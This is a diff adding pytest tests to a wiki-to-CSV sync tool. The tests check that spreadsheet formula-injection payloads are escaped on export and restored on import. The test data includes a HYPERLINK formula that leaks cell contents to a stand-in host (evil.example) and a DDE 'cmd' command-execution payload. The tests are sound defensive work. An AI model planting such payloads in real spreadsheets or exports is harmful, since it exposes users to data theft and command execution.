@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import csv
+import io
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from wikisync.collect import iter_type_pages
-from wikisync.edits import read_params
+from wikisync.edits import read_params, set_params
 from wikisync.pages import PageText
 from wikisync.publish import open_target
 from wikisync.schema import FieldSpec, RecordType
@@ -207,3 +210,144 @@ def test_import_skips_page_changed_since_export_unless_it_holds_the_values(
     assert statuses[rows[3][0]] == "edited"
     assert report.exit_code == 3
     assert read_params(_texts(source, event)[first], TEMPLATES)[0]["type"] == "Conférence"
+
+
+# -- hostile cells and rows ------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
+    "+33 6 12 34 56 78",
+    "-5",
+    "@SUM(A1:A9)",
+    "\tcmd|' /C calc'!A0",
+    "'=déjà gardé",
+    "'",
+    "''",
+    "'texte",
+    "= espace",
+]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_formula_cells_are_guarded_on_export_and_restored_on_import(value: str) -> None:
+    row = SheetRow(2, "=Titre piégé", 0, 12, "abc", {"place": value})
+    text = format_sheet([row], ["place"])
+    exported = list(csv.reader(io.StringIO(text, newline="")))[1]
+    assert exported[0] == "'=Titre piégé"
+    assert exported[4] == "'" + value  # a spreadsheet program shows it as text
+    parsed = parse_sheet(text, SMALL).rows[0]
+    assert parsed.title == "=Titre piégé" and parsed.cells["place"] == value
+
+
+def test_harmless_cells_are_written_as_they_are() -> None:
+    row = SheetRow(2, "Atelier", 0, 12, "abc", {"place": "Lyon = ville", "startDate": ""})
+    text = format_sheet([row], ["place", "startDate"])
+    assert text.splitlines()[1] == "Atelier,0,12,abc,Lyon = ville,"
+
+
+def test_raw_export_and_import_keep_cells_as_they_are() -> None:
+    row = SheetRow(2, "Atelier", 0, 12, "abc", {"place": "=1+2"})
+    text = format_sheet([row], ["place"], raw=True)
+    assert text.splitlines()[1] == "Atelier,0,12,abc,=1+2"
+    assert parse_sheet("title,index,revid,place\r\nA,0,1,'x\r\n", SMALL, raw=True).rows[
+        0
+    ].cells == {"place": "'x"}
+
+
+@given(st.lists(st.text(st.characters(blacklist_characters="\r"), max_size=40), max_size=4))
+@settings(max_examples=200, deadline=None)
+def test_fuzz_any_cell_text_survives_export_then_import(values: list[str]) -> None:
+    # (A carriage return never reaches a cell: MediaWiki stores \n line ends.)
+    fields = ("startDate", "place")
+    rows = [
+        SheetRow(
+            number + 2, f"Page {number}", 0, 1, "", dict(zip(fields, (v, v[::-1]), strict=True))
+        )
+        for number, v in enumerate(values)
+    ]
+    for delimiter in (",", ";"):
+        text = format_sheet(rows, fields, delimiter=delimiter)
+        parsed = parse_sheet(text, SMALL).rows
+        assert [dict(r.cells) for r in parsed] == [
+            dict(r.cells) for r in rows if any(c.strip() for c in (r.title, *r.cells.values()))
+        ]
+
+
+@pytest.mark.parametrize(
+    ("line", "cells"),
+    [("Atelier,0,12", 3), ("Atelier,0,12,abc,Lyon,en trop", 6), ("Atelier", 1)],
+)
+def test_short_or_long_row_is_refused_naming_the_row(line: str, cells: int) -> None:
+    text = f"title,index,revid,sha1,place\r\nBon,0,1,,Lyon\r\n{line}\r\n"
+    with pytest.raises(SpreadsheetError, match=f"row 3 has {cells} cells but the header has 5"):
+        parse_sheet(text, SMALL)
+
+
+def test_cells_longer_than_the_csv_module_limit_are_read() -> None:
+    big = "Très long compte rendu. " * 12_000  # 288,000 characters
+    assert len(big) > 131_072
+    row = SheetRow(2, "Atelier", 0, 12, "abc", {"place": big})
+    assert parse_sheet(format_sheet([row], ["place"]), SMALL).rows[0].cells["place"] == big
+
+
+def test_import_of_a_short_row_saves_nothing_on_the_mirror(
+    source: Source, event: RecordType, tmp_path: Path
+) -> None:
+    path = tmp_path / "events.csv"
+    export_records(source, event, path)
+    rows = _read(path)
+    rows[1][rows[0].index("place")] = "Halle Tony Garnier"  # a real change on row 2…
+    rows[3] = rows[3][:5]  # …and a row cut short (its last fields would be blanked)
+    _write(tmp_path / "edited.csv", rows)
+    before = _texts(source, event)
+    with pytest.raises(SpreadsheetError, match="row 4 has 5 cells") as caught:
+        import_records(source, open_target(source), event, tmp_path / "edited.csv")
+    assert caught.value.exit_code == 2 and caught.value.row == 4
+    assert _texts(source, event) == before
+
+
+def test_a_planted_formula_on_a_page_is_guarded_and_the_round_trip_changes_nothing(
+    source: Source, event: RecordType, tmp_path: Path
+) -> None:
+    title = next(iter(_texts(source, event)))
+    page = source.fetch_titles([title]).pages[0]
+    formula = '=HYPERLINK("http://evil.example","x")'
+    used = "Lieu" if "Lieu" in read_params(page.wikitext, TEMPLATES)[0] else "place"
+    planted = set_params(page.wikitext, TEMPLATES, {used: formula}, title=title).wikitext
+    params = read_params(planted, TEMPLATES)[0]
+    assert params[used] == formula
+    open_target(source).save(title, planted, base=page, summary="")
+    path = tmp_path / "events.csv"
+    export_records(source, event, path)
+    rows = _read(path)
+    (row,) = [r for r in rows if r[0] == title and r[1] == "0"]
+    cell = row[rows[0].index("place")]
+    assert cell == "'" + formula
+    before = _texts(source, event)
+    report = import_records(source, open_target(source), event, path)
+    assert set(report.counts()) == {"unchanged"}
+    assert _texts(source, event) == before
+
+
+def test_a_huge_first_line_is_one_clear_error() -> None:
+    with pytest.raises(SpreadsheetError, match="the first row should be the header"):
+        parse_sheet("x" * 300_000 + "\r\nA,0,1\r\n", SMALL)
+
+
+_SHEET_PIECES = st.sampled_from(
+    ["title", "index", "revid", "sha1", "place", "startDate", ",", ";", "\t", '"', "'", "=",
+     "\r\n", "\n", "\r", "0", "-1", "12", "é", " ", "\x00", "\ufeff", "x" * 50]
+)  # fmt: skip
+
+
+@given(st.lists(_SHEET_PIECES | st.text(max_size=5), max_size=60).map("".join))
+@settings(max_examples=300, deadline=None)
+def test_fuzz_any_text_is_a_sheet_or_one_spreadsheet_error(text: str) -> None:
+    header = "title,index,revid,sha1,place\r\n"
+    for candidate in (text, header + text):
+        try:
+            sheet = parse_sheet(candidate, SMALL)
+        except SpreadsheetError as exc:
+            assert "\n" not in str(exc)
+        else:
+            assert all(row.title and row.index >= 0 and row.revid >= 0 for row in sheet.rows)
